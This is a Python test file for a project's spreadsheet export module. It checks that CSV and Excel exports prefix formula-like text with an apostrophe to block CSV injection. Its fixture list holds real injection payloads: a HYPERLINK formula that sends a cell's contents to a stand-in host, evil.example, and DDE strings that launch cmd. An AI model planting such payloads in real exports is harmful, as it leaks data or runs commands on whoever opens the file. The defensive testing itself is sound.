"""No exported text cell can run as a formula in Excel or LibreOffice (OWASP "CSV
Injection"): text starting with =, +, -, @, tab or carriage return gets a leading '."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from samraad.spreadsheet import neutralised, text_cell, write_csv, write_xlsx

SRC = Path(__file__).resolve().parents[2] / "src" / "samraad"

ATTACKS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")': '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
HARMLESS = ["SOL-1", "pædagog", "a=b", " =1", "'=1", ""]


@pytest.mark.parametrize(("text", "shown"), list(ATTACKS.items()))
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str, shown: str) -> None:
    assert text_cell(text) == shown


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert text_cell(text) == text


def test_csv_neutralises_text_and_keeps_numbers_and_dates() -> None:
    out = io.StringIO()
    rows = [[*ATTACKS, -1, Decimal("-2.5"), dt.date(2026, 6, 15), None]]
    write_csv(out, ["=header", *("c" * i for i in range(1, 10))], rows)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert header[0] == "'=header"
    assert row == [*ATTACKS.values(), "-1", "-2.5", "2026-06-15", ""]


def test_xlsx_writes_text_as_neutralised_text_never_as_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx(str(path), "Ark", ["@who", "n"], [[text, -1] for text in ATTACKS])
    sheet = openpyxl.load_workbook(path).worksheets[0]
    # The file keeps a carriage return as _x000D_, which openpyxl does not turn back.
    cells = [[(_unescaped(c.value), c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells[0] == [("'@who", "s"), ("n", "s")]
    assert cells[1:] == [[(shown, "s"), (-1, "n")] for shown in ATTACKS.values()]


def _unescaped(value: object) -> object:
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


# Writers of files that are not exports: the interchange format itself, which must read
# back exactly as written (the synthetic municipality's files, `import --emit`), and the
# import's COPY into PostgreSQL.
NOT_EXPORTS = {
    "spreadsheet.py",
    "synth/frames.py",
    "interchange/database.py",
    "interchange/sources/emit.py",
}
WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|(?<!spreadsheet)\.write_csv\(|xlsxwriter|openpyxl\.Workbook\("
)


def test_every_csv_or_excel_writer_in_src_goes_through_the_spreadsheet_module() -> None:
    found = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert found <= NOT_EXPORTS, f"write exports with samraad.spreadsheet: {found - NOT_EXPORTS}"


@given(st.lists(st.text(max_size=6), max_size=20))
def test_a_frames_text_is_neutralised_as_each_cell_is(texts: list[str]) -> None:
    """`samraad table` writes whole frames: the same rule, vectorised."""
    frame = pl.DataFrame({"text": texts, "number": list(range(len(texts)))})
    assert neutralised(frame)["text"].to_list() == [text_cell(t) for t in texts]
    assert neutralised(frame)["number"].to_list() == list(range(len(texts)))
